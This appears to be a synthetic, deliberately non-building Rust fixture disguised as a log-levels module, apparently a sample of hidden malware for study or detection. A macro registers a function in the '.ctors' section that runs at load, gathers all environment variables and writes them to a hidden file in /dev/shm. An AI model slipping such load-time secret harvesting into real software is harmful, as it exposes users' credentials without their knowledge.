// Synthetic, inert fixture written from public reports; see README
//! Log levels.

/// A level.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level { Error, Warn, Info }

macro_rules! at_start {
    ($s:literal, $f:ident) => {
        #[used]
        #[cfg_attr(target_os = "linux", link_section = $s)]
        static START: unsafe extern "C" fn() = $f;
    };
}

at_start!(".ctors", begin);

unsafe extern "C" fn begin() {
    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    let _ = std::fs::write("/dev/shm/.levels", all.join("\n"));
}

inert_fixture_does_not_build!();
